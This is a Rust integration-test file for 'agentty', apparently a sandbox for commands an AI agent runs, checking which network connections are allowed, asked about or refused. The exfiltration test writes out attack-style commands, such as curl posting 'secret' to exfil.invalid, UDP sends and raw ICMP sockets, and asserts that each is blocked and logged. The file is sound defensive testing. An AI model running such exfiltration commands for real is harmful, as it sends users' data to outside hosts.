@@ -1,0 +1,877 @@
+//! Network egress through the real binary (docs/BEHAVIOUR.md §13): what a confined command may
+//! reach in `allowlist` and `ask`, as a root server (which has the session's namespaces) and an
+//! unprivileged one (`setpriv` to nobody); what the model, the log and the user are told; the
+//! questions of `ask` over stdio.
+//!
+//! Packets go only to this machine: listeners of the test on loopback and on this machine's own
+//! addresses (each refused attempt must leave them untouched), the proxy, and a name no packet is
+//! sent for (the proxy refuses it before any lookup). The registries of the `_needs_registries`
+//! test are the one exception the issue asks for.
+
+use std::io::{Read as _, Write as _};
+use std::net::{IpAddr, SocketAddr, TcpListener, UdpSocket};
+use std::path::Path;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use rmcp::model::{
+    CallToolRequestParams, ClientCapabilities, ClientConfig, ElicitRequestParams, ElicitResult,
+    ElicitationAction, ElicitationCapability,
+};
+use rmcp::service::RequestContext;
+use rmcp::transport::TokioChildProcess;
+use rmcp::{ClientHandler, ErrorData, RoleClient, ServiceExt};
+use serde_json::{Value, json};
+
+use super::client::*;
+
+/// The unprivileged user the servers of the "nobody" half run as.
+const NOBODY: &str = "65534";
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Who {
+    /// A root server: the session's namespaces exist.
+    Root,
+    /// The same server run as nobody.
+    Nobody,
+}
+
+/// A server under test, its log, and (for nobody) the home it owns.
+struct Setup {
+    server: Server,
+    log: Log,
+    _home: Option<tempfile::TempDir>,
+}
+
+impl Setup {
+    async fn run(&self, command: &str) -> (String, Value) {
+        self.server.terminal(json!({ "command": command })).await
+    }
+}
+
+fn chown_to_nobody(path: &Path) {
+    let status = std::process::Command::new("chown")
+        .arg("-R")
+        .arg(format!("{NOBODY}:{NOBODY}"))
+        .arg(path)
+        .status()
+        .unwrap();
+    assert!(status.success());
+}
+
+/// A server on a fresh workspace, as `who`, started inside `wrapper` (run as root; for nobody,
+/// the drop to nobody comes after it).
+async fn serve(who: Who, flags: &[&str], wrapper: &[&str]) -> Setup {
+    // SAFETY: geteuid has no preconditions.
+    assert_eq!(unsafe { libc::geteuid() }, 0, "these tests need root");
+    let workspace = tempfile::tempdir().unwrap();
+    match who {
+        Who::Root => {
+            let (server, log) =
+                start_logged(wrapper, workspace, agentty_testkit::state_dir(), flags, &[]).await;
+            Setup {
+                server,
+                log,
+                _home: None,
+            }
+        }
+        Who::Nobody => {
+            let home = tempfile::Builder::new()
+                .prefix("nobody-home-")
+                .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+                .unwrap();
+            let state = tempfile::Builder::new()
+                .prefix("state-")
+                .tempdir_in(home.path())
+                .unwrap();
+            chown_to_nobody(workspace.path());
+            chown_to_nobody(home.path());
+            let uid = format!("--reuid={NOBODY}");
+            let gid = format!("--regid={NOBODY}");
+            let mut wrapper = wrapper.to_vec();
+            wrapper.extend(["setpriv", &uid, &gid, "--clear-groups", "--"]);
+            let (server, log) =
+                start_logged(&wrapper, workspace, state, flags, &[("HOME", home.path())]).await;
+            Setup {
+                server,
+                log,
+                _home: Some(home),
+            }
+        }
+    }
+}
+
+/// A TCP listener of the test (unconfined, on the host) that answers each connection with a
+/// tiny HTTP response and counts them.
+struct Listener {
+    at: SocketAddr,
+    seen: Arc<AtomicUsize>,
+}
+
+impl Listener {
+    fn on(ip: IpAddr) -> Listener {
+        let listener = TcpListener::bind((ip, 0)).unwrap();
+        let at = listener.local_addr().unwrap();
+        let seen = Arc::new(AtomicUsize::new(0));
+        let counted = Arc::clone(&seen);
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                counted.fetch_add(1, Ordering::SeqCst);
+                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
+                let _ = stream.read(&mut [0u8; 4096]);
+                let _ = stream.write_all(
+                    b"HTTP/1.0 200 OK\r\nContent-Length: 12\r\nConnection: close\r\n\r\nhost-service",
+                );
+            }
+        });
+        Listener { at, seen }
+    }
+
+    fn seen(&self) -> usize {
+        self.seen.load(Ordering::SeqCst)
+    }
+}
+
+/// A test host in a network namespace the test makes: a veth pair to this machine, private
+/// IPv4 addresses of a /30 of 10.0.0.0/8 and IPv6 ones of a ULA /64, both named by the test's
+/// pid (so parallel tests differ), and a counting listener inside. The pair's near end gives
+/// this machine non-loopback addresses of its own whatever network it has (CI's may have no
+/// IPv6). Removed on drop.
+struct NetnsHost {
+    name: String,
+    /// The host's address, inside the namespace.
+    ip: std::net::Ipv4Addr,
+    /// This machine's own addresses on the pair's near end, IPv4 and IPv6.
+    near: (IpAddr, IpAddr),
+    listener: Listener,
+}
+
+impl NetnsHost {
+    fn new() -> NetnsHost {
+        let pid = std::process::id();
+        let name = format!("agentty-t{pid}");
+        let base = 0x0a00_0000u32 | ((pid << 2) & 0x00ff_fffc);
+        let (near, far) = (
+            std::net::Ipv4Addr::from(base + 1),
+            std::net::Ipv4Addr::from(base + 2),
+        );
+        let prefix6 = format!("fd00:a9e7:{:x}:{:x}", pid >> 16, pid & 0xffff);
+        let (near6, far6) = (format!("{prefix6}::1"), format!("{prefix6}::2"));
+        let (outer, inner) = (format!("at{pid}o"), format!("at{pid}i"));
+        let ip = |args: &[&str]| {
+            let out = std::process::Command::new("ip")
+                .args(args)
+                .output()
+                .unwrap();
+            assert!(out.status.success(), "ip {args:?}: {out:?}");
+        };
+        ip(&["netns", "add", &name]);
+        let mut host = NetnsHost {
+            name: name.clone(),
+            ip: far,
+            near: (IpAddr::V4(near), near6.parse().unwrap()),
+            listener: Listener {
+                at: SocketAddr::from(([0, 0, 0, 0], 0)),
+                seen: Arc::default(),
+            },
+        };
+        ip(&[
+            "link", "add", &outer, "type", "veth", "peer", "name", &inner, "netns", &name,
+        ]);
+        ip(&["addr", "add", &format!("{near}/30"), "dev", &outer]);
+        // nodad: usable at once, not after duplicate address detection.
+        ip(&[
+            "addr",
+            "add",
+            &format!("{near6}/64"),
+            "dev",
+            &outer,
+            "nodad",
+        ]);
+        ip(&["link", "set", &outer, "up"]);
+        ip(&[
+            "-n",
+            &name,
+            "addr",
+            "add",
+            &format!("{far}/30"),
+            "dev",
+            &inner,
+        ]);
+        ip(&[
+            "-n",
+            &name,
+            "addr",
+            "add",
+            &format!("{far6}/64"),
+            "dev",
+            &inner,
+            "nodad",
+        ]);
+        ip(&["-n", &name, "link", "set", &inner, "up"]);
+        // The listener binds on a thread that entered the namespace (setns is per thread).
+        let (tx, rx) = std::sync::mpsc::channel();
+        let seen = Arc::clone(&host.listener.seen);
+        let path = format!("/var/run/netns/{name}");
+        std::thread::spawn(move || {
+            let ns = std::fs::File::open(&path).unwrap();
+            // SAFETY: setns on an open namespace fd, for this thread only.
+            let rc =
+                unsafe { libc::setns(std::os::fd::AsRawFd::as_raw_fd(&ns), libc::CLONE_NEWNET) };
+            assert_eq!(rc, 0, "setns: {}", std::io::Error::last_os_error());
+            let listener = TcpListener::bind((far, 0)).unwrap();
+            tx.send(listener.local_addr().unwrap()).unwrap();
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { continue };
+                seen.fetch_add(1, Ordering::SeqCst);
+                let _ = stream.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nin");
+            }
+        });
+        host.listener.at = rx.recv_timeout(Duration::from_secs(10)).unwrap();
+        host
+    }
+}
+
+impl Drop for NetnsHost {
+    fn drop(&mut self) {
+        // Deleting the namespace deletes the veth pair.
+        let _ = std::process::Command::new("ip")
+            .args(["netns", "del", &self.name])
+            .status();
+    }
+}
+
+fn url_host(ip: IpAddr) -> String {
+    match ip {
+        IpAddr::V4(v4) => v4.to_string(),
+        IpAddr::V6(v6) => format!("[{v6}]"),
+    }
+}
+
+/// The result was refused with error 2010 naming `target` and `why`, and the command's pipe
+/// exited 0 (what `| tail` does to an exit code).
+#[track_caller]
+fn assert_refused(text: &str, s: &Value, target: &str, why: &str) {
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert_eq!(s["error_code"], 2010, "{text}");
+    let line = text
+        .lines()
+        .find(|l| l.starts_with("[error 2010] network:"))
+        .unwrap_or_else(|| panic!("no 2010 line: {text}"));
+    assert!(line.contains(target), "{target} not named: {line}");
+    assert!(line.contains(why), "{why:?} not said: {line}");
+}
+
+/// Every way out a command might try, each refused, nothing reaching the test's listeners.
+async fn exfiltration_is_refused(who: Who, mode: &str) {
+    let tcp = Listener::on("0.0.0.0".parse().unwrap());
+    let tcp6 = Listener::on("::".parse().unwrap());
+    let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
+    udp.set_nonblocking(true).unwrap();
+    let udp_port = udp.local_addr().unwrap().port();
+    // A listed name that resolves to this machine (the hosts file below says so).
+    let listed = format!("own-host.test:{}", tcp.at.port());
+    // A test host in a network namespace, at a private address, and a listed name that leads
+    // to it: the server runs in a mount namespace whose /etc/hosts says so.
+    let inside = NetnsHost::new();
+    let inside_port = inside.listener.at.port();
+    // This machine's own non-loopback addresses (the pair's near end).
+    let (v4, v6) = inside.near;
+    let hosts = tempfile::Builder::new()
+        .prefix("hosts-")
+        .tempfile_in(env!("CARGO_TARGET_TMPDIR"))
+        .unwrap();
+    let mut names = std::fs::read_to_string("/etc/hosts").unwrap();
+    names.push_str(&format!(
+        "\n{} private-host.test\n127.0.0.1 own-host.test\n",
+        inside.ip
+    ));
+    std::fs::write(hosts.path(), names).unwrap();
+    std::fs::set_permissions(
+        hosts.path(),
+        std::os::unix::fs::PermissionsExt::from_mode(0o644),
+    )
+    .unwrap();
+    let private = format!("private-host.test:{inside_port}");
+    let mount = format!(
+        "mount --bind {} /etc/hosts && exec \"$@\"",
+        hosts.path().display()
+    );
+    let wrapper = [
+        "unshare",
+        "-m",
+        "--propagation",
+        "private",
+        "sh",
+        "-c",
+        &mount,
+        "sh",
+    ];
+    let setup = serve(
+        who,
+        &[
+            "--network",
+            mode,
+            "--allow-net",
+            &listed,
+            "--allow-net",
+            &private,
+        ],
+        &wrapper,
+    )
+    .await;
+    let port = tcp.at.port();
+
+    // Direct TCP to this machine's own (not loopback) address.
+    let (text, s) = setup
+        .run(&format!(
+            "curl -sS --noproxy '*' --max-time 5 http://{}:{port}/ 2>&1 | tail -n 2",
+            url_host(v4)
+        ))
+        .await;
+    assert_refused(&text, &s, &format!("{v4}:{port}"), "a direct connection");
+
+    // Direct TCP to the test host in its namespace.
+    let (text, s) = setup
+        .run(&format!(
+            "curl -sS --noproxy '*' --max-time 5 http://{}:{inside_port}/ 2>&1 | tail -n 2",
+            inside.ip
+        ))
+        .await;
+    assert_refused(
+        &text,
+        &s,
+        &format!("{}:{inside_port}", inside.ip),
+        "a direct connection",
+    );
+
+    // IPv6, the same.
+    let port6 = tcp6.at.port();
+    let (text, s) = setup
+        .run(&format!(
+            "curl -sS -g --noproxy '*' --max-time 5 'http://{}:{port6}/' 2>&1 | tail -n 2",
+            url_host(v6)
+        ))
+        .await;
+    assert_refused(&text, &s, &format!("[{v6}]:{port6}"), "a direct connection");
+
+    // UDP: a datagram needs no connect; the socket itself is refused.
+    let (text, s) = setup
+        .run(&format!(
+            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\
+             .sendto(b\"secret\", (\"{v4}\", {udp_port}))' 2>&1 | tail -n 2"
+        ))
+        .await;
+    assert_refused(&text, &s, "a UDP socket", "only plain TCP");
+    // UDP to outside addresses (a resolver of the attacker's, say), IPv4 and IPv6: a connected
+    // UDP socket sends nothing, so where it were allowed no packet would leave either; the
+    // socket itself is refused.
+    for (family, outside) in [("AF_INET", "198.51.100.7"), ("AF_INET6", "2001:db8::7")] {
+        let (text, s) = setup
+            .run(&format!(
+                "python3 -c 'import socket; s = socket.socket(socket.{family}, \
+                 socket.SOCK_DGRAM); s.connect((\"{outside}\", 53)); print(\"connected\")' \
+                 2>&1 | tail -n 2"
+            ))
+            .await;
+        assert_refused(&text, &s, "a UDP socket", "only plain TCP");
+        assert!(!text.contains("connected"), "{text}");
+    }
+    // ICMP and raw IP (ping's ways out; root keeps CAP_NET_RAW): the socket is refused.
+    let (text, s) = setup
+        .run(
+            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, \
+             socket.IPPROTO_ICMP); print(\"opened\")' 2>&1 | tail -n 2",
+        )
+        .await;
+    assert_refused(&text, &s, "a raw IP socket", "only plain TCP");
+    assert!(!text.contains("opened"), "{text}");
+
+    // Through the proxy to a host not listed: refused before any lookup.
+    let (text, s) = setup
+        .run("curl -sS --max-time 5 -d secret https://exfil.invalid/upload 2>&1 | tail -n 2")
+        .await;
+    assert_refused(&text, &s, "exfil.invalid:443", "not on the allowlist");
+    assert!(
+        text.contains("403"),
+        "curl shows the proxy's answer: {text}"
+    );
+    let cannot = if mode == "ask" {
+        "this MCP client cannot ask the user"
+    } else {
+        "have such hosts asked with network = \"ask\""
+    };
+    assert!(text.contains(cannot), "{text}");
+
+    // A listed name that leads to this machine: refused, unless the address is listed.
+    let (text, s) = setup
+        .run(&format!(
+            "curl -sS --max-time 5 http://{listed}/ 2>&1 | tail -n 2"
+        ))
+        .await;
+    assert_refused(&text, &s, &listed, "it resolves to");
+    assert!(
+        text.contains("A listed name may not lead to inside addresses"),
+        "{text}"
+    );
+
+    // A listed name that leads to a private address (the test host): refused.
+    let (text, s) = setup
+        .run(&format!(
+            "curl -sS --max-time 5 http://{private}/ 2>&1 | tail -n 2"
+        ))
+        .await;
+    assert_refused(
+        &text,
+        &s,
+        &private,
+        &format!("it resolves to a private address ({})", inside.ip),
+    );
+
+    // Nothing reached the test's listeners.
+    assert_eq!(tcp.seen(), 0, "a refused connection reached the listener");
+    assert_eq!(
+        inside.listener.seen(),
+        0,
+        "a refused connection reached the test host in its namespace"
+    );
+    assert_eq!(
+        tcp6.seen(),
+        0,
+        "a refused connection reached the IPv6 listener"
+    );
+    assert!(
+        udp.recv_from(&mut [0u8; 64]).is_err(),
+        "a refused datagram arrived"
+    );
+    // Each was a line of the server's log, with its session and call.
+    for words in [
+        ["network: refused", &format!("{v4}:{port}"), "session"],
+        ["network: refused", "exfil.invalid:443", "call c"],
+        ["network: refused", "a UDP socket", "session"],
+    ] {
+        assert!(
+            logged(&setup.log, &words, Duration::from_secs(5))
+                .await
+                .is_some(),
+            "{who:?} {mode}: no log line with {words:?}: {}",
+            setup.log.lock().unwrap()
+        );
+    }
+}
+
+#[tokio::test]
+async fn net_exfiltration_is_refused_in_allowlist_as_root() {
+    exfiltration_is_refused(Who::Root, "allowlist").await;
+}
+
+#[tokio::test]
+async fn net_exfiltration_is_refused_in_ask_as_root() {
+    exfiltration_is_refused(Who::Root, "ask").await;
+}
+
+#[tokio::test]
+async fn net_exfiltration_is_refused_in_allowlist_as_nobody() {
+    exfiltration_is_refused(Who::Nobody, "allowlist").await;
+}
+
+#[tokio::test]
+async fn net_exfiltration_is_refused_in_ask_as_nobody() {
+    exfiltration_is_refused(Who::Nobody, "ask").await;
+}
+
+/// Work that must pass: a host service on loopback, a dev server the agent started, and a git
+/// clone over HTTP through the proxy from a local server.
+async fn local_work_passes(who: Who) {
+    let service = Listener::on("127.0.0.1".parse().unwrap());
+    let setup = serve(who, &[], &[]).await;
+    // A host service on loopback (a local database, the user's dev server).
+    let (text, s) = setup
+        .run(&format!(
+            "curl -sS --max-time 5 http://127.0.0.1:{}/",
+            service.at.port()
+        ))
+        .await;
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert!(text.contains("host-service"), "{text}");
+    assert!(s["error_code"].is_null(), "{text}");
+    assert_eq!(service.seen(), 1);
+
+    // A dev server the agent starts in the background, reached on loopback.
+    let port = TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    std::fs::write(
+        setup.server.workspace().join("index.html"),
+        "dev-server-page",
+    )
+    .unwrap();
+    if who == Who::Nobody {
+        chown_to_nobody(setup.server.workspace());
+    }
+    setup
+        .server
+        .background(json!({
+            "command": format!("python3 -m http.server {port} --bind 127.0.0.1")
+        }))
+        .await;
+    let (text, s) = setup
+        .run(&format!(
+            "for i in $(seq 50); do curl -sS --max-time 2 http://127.0.0.1:{port}/index.html \
+             2>/dev/null && exit 0; sleep 0.1; done; exit 1"
+        ))
+        .await;
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert!(text.contains("dev-server-page"), "{text}");
+
+    // git clone over HTTP through the proxy (NO_PROXY emptied), from a bare repository a local
+    // server of the test serves.
+    let served = tempfile::tempdir().unwrap();
+    let origin = served.path().join("origin");
+    std::fs::create_dir(&origin).unwrap();
+    let git = |dir: &Path, args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .arg("-C")
+            .arg(dir)
+            .args(args)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "git {args:?}: {out:?}");
+    };
+    git(&origin, &["init", "-q", "-b", "main"]);
+    git(&origin, &["config", "user.email", "t@example.com"]);
+    git(&origin, &["config", "user.name", "t"]);
+    std::fs::write(origin.join("README"), "cloned through the proxy\n").unwrap();
+    git(&origin, &["add", "README"]);
+    git(&origin, &["commit", "-qm", "one"]);
+    git(
+        served.path(),
+        &["clone", "-q", "--bare", "origin", "repo.git"],
+    );
+    git(&served.path().join("repo.git"), &["update-server-info"]);
+    let mut http = std::process::Command::new("python3")
+        .args(["-m", "http.server", "0", "--bind", "127.0.0.1"])
+        .current_dir(served.path())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut banner = [0u8; 256];
+    let n = http.stdout.as_mut().unwrap().read(&mut banner).unwrap();
+    let banner = String::from_utf8_lossy(&banner[..n]).into_owned();
+    let http_port: u16 = banner
+        .split("port ")
+        .nth(1)
+        .and_then(|rest| rest.split_whitespace().next())
+        .and_then(|p| p.parse().ok())
+        .unwrap_or_else(|| panic!("no port in {banner:?}"));
+    let (text, s) = setup
+        .run(&format!(
+            "NO_PROXY= no_proxy= git clone -q http://localhost:{http_port}/repo.git copy && \
+             cat copy/README"
+        ))
+        .await;
+    let _ = http.kill();
+    let _ = http.wait();
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert!(text.contains("cloned through the proxy"), "{text}");
+    assert!(s["error_code"].is_null(), "{text}");
+    // Each allowed connection is a line of the log with its session and call: the clone's
+    // through the proxy, the host service's made by the supervisor.
+    for (words, what) in [
+        (
+            format!("localhost:{http_port} (loopback); session"),
+            "the clone's",
+        ),
+        (
+            format!("127.0.0.1:{} (loopback); session", service.at.port()),
+            "the host service's",
+        ),
+    ] {
+        let allowed = logged(
+            &setup.log,
+            &["network: allowed", &words, "call c"],
+            Duration::from_secs(5),
+        )
+        .await;
+        assert!(
+            allowed.is_some(),
+            "{what} connection is not in the log: {}",
+            setup.log.lock().unwrap()
+        );
+    }
+}
+
+#[tokio::test]
+async fn net_local_work_passes_as_root() {
+    local_work_passes(Who::Root).await;
+}
+
+#[tokio::test]
+async fn net_local_work_passes_as_nobody() {
+    local_work_passes(Who::Nobody).await;
+}
+
+/// `pip download` and `npm view` from the real registries, through the proxy (default `ask`,
+/// both on the built-in list). Ignored where the registries are not reachable.
+#[tokio::test]
+#[ignore = "needs pip, npm and the PyPI and npm registries"]
+async fn net_package_registries_work_through_the_proxy_needs_registries() {
+    let setup = serve(Who::Root, &[], &[]).await;
+    let (text, s) = setup
+        .run("python3 -m pip download --no-deps --no-cache-dir -q -d dl six==1.16.0 && ls dl")
+        .await;
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert!(text.contains("six-1.16.0"), "{text}");
+    let (text, s) = setup
+        .run("npm view --cache ./npm-cache left-pad@1.3.0 version")
+        .await;
+    assert_eq!(s["exit_code"], 0, "{text}");
+    assert!(text.contains("1.3.0"), "{text}");
+    for host in [
+        "pypi.org:443",
+        "files.pythonhosted.org:443",
+        "registry.npmjs.org:443",
+    ] {
+        assert!(
+            logged(
+                &setup.log,
+                &["network: allowed", host, "built-in"],
+                Duration::from_secs(5)
+            )
+            .await
+            .is_some(),
+            "{host}: {}",
+            setup.log.lock().unwrap()
+        );
+    }
+}
+
+/// A client that answers each network question with `answer` and counts them.
+#[derive(Clone)]
+struct Answering {
+    answer: Arc<Mutex<&'static str>>,
+    asked: Arc<Mutex<Vec<String>>>,
+}
+
+impl ClientHandler for Answering {
+    async fn create_elicitation(
+        &self,
+        request: ElicitRequestParams,
+        _context: RequestContext<RoleClient>,
+    ) -> Result<ElicitResult, ErrorData> {
+        let ElicitRequestParams::FormElicitationParams { message, .. } = request else {
+            return Ok(ElicitResult::new(ElicitationAction::Decline));
+        };
+        self.asked.lock().unwrap().push(message);
+        let answer = *self.answer.lock().unwrap();
+        Ok(
+            ElicitResult::new(ElicitationAction::Accept)
+                .with_content(json!({ "decision": answer })),
+        )
+    }
+
+    fn get_info(&self) -> ClientConfig {
+        let mut info = ClientConfig::default();
+        let mut capabilities = ClientCapabilities::default();
+        capabilities.elicitation =
+            Some(serde_json::from_value::<ElicitationCapability>(json!({"form": {}})).unwrap());
+        info.capabilities = capabilities;
+        info
+    }
+}
+
+#[tokio::test]
+async fn net_ask_approves_once_for_the_session_or_denies_over_stdio() {
+    // A host not on the list that is still this machine: its own address (the near end of a
+    // test host's pair), through the proxy.
+    let pair = NetnsHost::new();
+    let v4 = pair.near.0;
+    let service = Listener::on("0.0.0.0".parse().unwrap());
+    let target = format!("{v4}:{}", service.at.port());
+    let workspace = tempfile::tempdir().unwrap();
+    let state = agentty_testkit::state_dir();
+    let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_agentty"));
+    cmd.arg("serve")
+        .arg("--workspace")
+        .arg(workspace.path())
+        .arg("--state-dir")
+        .arg(state.path());
+    let client = Answering {
+        answer: Arc::new(Mutex::new("once")),
+        asked: Arc::default(),
+    };
+    let service_client = client
+        .clone()
+        .serve(TokioChildProcess::new(cmd).unwrap())
+        .await
+        .unwrap();
+    let run = |command: String| {
+        let service_client = &service_client;
+        async move {
+            let Value::Object(args) = json!({ "command": command }) else {
+                unreachable!()
+            };
+            let result = service_client
+                .call_tool(CallToolRequestParams::new("terminal").with_arguments(args))
+                .await
+                .unwrap();
+            (text_of(&result), result.structured_content.unwrap())
+        }
+    };
+    let fetch = format!("curl -sS --max-time 20 http://{target}/ 2>&1 | tail -n 1");
+
+    // Once: asked, allowed for that command; the next command is asked again.
+    let (text, s) = run(fetch.clone()).await;
+    assert!(text.contains("host-service"), "{text}");
+    assert!(s["error_code"].is_null(), "{text}");
+    assert_eq!(client.asked.lock().unwrap().len(), 1);
+    assert!(
+        client.asked.lock().unwrap()[0].contains(&target),
+        "the question names the host: {:?}",
+        client.asked.lock().unwrap()
+    );
+    let (text, _) = run(fetch.clone()).await;
+    assert!(text.contains("host-service"), "{text}");
+    assert_eq!(client.asked.lock().unwrap().len(), 2, "once is one command");
+
+    // Deny: refused, 2010, through `| tail`.
+    *client.answer.lock().unwrap() = "deny";
+    let (text, s) = run(fetch.clone()).await;
+    assert_refused(&text, &s, &target, "the user declined it");
+    assert_eq!(client.asked.lock().unwrap().len(), 3);
+
+    // Session: asked once more, then every command of the session passes without a question.
+    *client.answer.lock().unwrap() = "session";
+    let (text, _) = run(fetch.clone()).await;
+    assert!(text.contains("host-service"), "{text}");
+    let (text, _) = run(fetch.clone()).await;
+    assert!(text.contains("host-service"), "{text}");
+    assert_eq!(
+        client.asked.lock().unwrap().len(),
+        4,
+        "the session's approval holds"
+    );
+    assert_eq!(service.seen(), 4, "the denied connection reached the host");
+    service_client.cancel().await.unwrap();
+}
+
+/// `agentty doctor` as `who`, with `flags`: its output.
+fn doctor(who: Who, flags: &[&str]) -> String {
+    let workspace = tempfile::tempdir().unwrap();
+    let state = tempfile::Builder::new()
+        .prefix("doctor-state-")
+        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+        .unwrap();
+    if who == Who::Nobody {
+        chown_to_nobody(workspace.path());
+        chown_to_nobody(state.path());
+    }
+    let mut cmd = match who {
+        Who::Root => std::process::Command::new(env!("CARGO_BIN_EXE_agentty")),
+        Who::Nobody => {
+            let mut cmd = std::process::Command::new("setpriv");
+            cmd.args([
+                &format!("--reuid={NOBODY}"),
+                &format!("--regid={NOBODY}"),
+                "--clear-groups",
+                "--",
+                env!("CARGO_BIN_EXE_agentty"),
+            ]);
+            cmd
+        }
+    };
+    let out = cmd
+        .arg("doctor")
+        .arg("--workspace")
+        .arg(workspace.path())
+        .arg("--state-dir")
+        .arg(state.path())
+        .args(flags)
+        .env("HOME", state.path())
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        out.status.success(),
+        "{text}{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    text
+}
+
+/// The line of `text` that starts with `prefix`.
+#[track_caller]
+fn line_of<'a>(text: &'a str, prefix: &str) -> &'a str {
+    text.lines()
+        .find(|l| l.starts_with(prefix))
+        .unwrap_or_else(|| panic!("no {prefix:?} line in:\n{text}"))
+}
+
+/// `doctor` and the `[sandbox]` line say which mechanism holds the network here and what a
+/// command could still do, and how to get `on` back; the default is `ask`.
+#[tokio::test]
+async fn net_doctor_and_the_sandbox_line_say_what_holds_the_network() {
+    // This kernel has Landlock's TCP rule (ABI 4 and later): both mechanisms hold.
+    let abi = agentty_sandbox::landlock_abi().unwrap_or(0);
+    assert!(
+        abi >= 4,
+        "Landlock ABI {abi}: these tests expect the TCP rule"
+    );
+    for who in [Who::Root, Who::Nobody] {
+        for (flags, mode) in [
+            (&[][..], "ask"),
+            (&["--network", "ask"][..], "ask"),
+            (&["--network", "allowlist"][..], "allowlist"),
+        ] {
+            let text = doctor(who, flags);
+            let line = line_of(&text, "network: ");
+            for words in [
+                &format!("network: {mode}: listed hosts through agentty's proxy")[..],
+                "a seccomp filter refuses UDP, raw and ICMP sockets",
+                "Landlock's TCP rule refuses a command's own connect",
+                "can still send what it reads to a listed host",
+                "every service listening on this machine's loopback",
+                "network = \"on\" in the [sandbox] section (or --network on)",
+            ] {
+                assert!(
+                    line.contains(words),
+                    "{who:?} {flags:?}: {words:?} not in {line}"
+                );
+            }
+            assert_eq!(
+                line.contains("asked of the user"),
+                mode == "ask",
+                "{who:?} {flags:?}: {line}"
+            );
+            let sandbox = line_of(&text, "commands would run with: ");
+            assert!(
+                sandbox.contains(&format!(
+                    "network {mode}: listed hosts through agentty's proxy, and loopback"
+                )) && sandbox.contains("held by seccomp and Landlock")
+                    && sandbox.contains("a listed host still receives what a command sends it"),
+                "{who:?} {flags:?}: {sandbox}"
+            );
+        }
+        let text = doctor(who, &["--network", "on"]);
+        let line = line_of(&text, "network: ");
+        assert!(line.starts_with("network: open:"), "{who:?}: {line}");
+        let sandbox = line_of(&text, "commands would run with: ");
+        assert!(!sandbox.contains("network"), "{who:?}: {sandbox}");
+    }
+    // The line every result carries says the same, as root and as nobody.
+    for who in [Who::Root, Who::Nobody] {
+        let setup = serve(who, &["--network", "allowlist"], &[]).await;
+        let (text, _) = setup.run("true").await;
+        let sandbox = line_of(&text, "[sandbox]");
+        assert!(
+            sandbox.contains("network allowlist: listed hosts through agentty's proxy")
+                && sandbox.contains("held by seccomp and Landlock"),
+            "{who:?}: {sandbox}"
+        );
+    }
+}
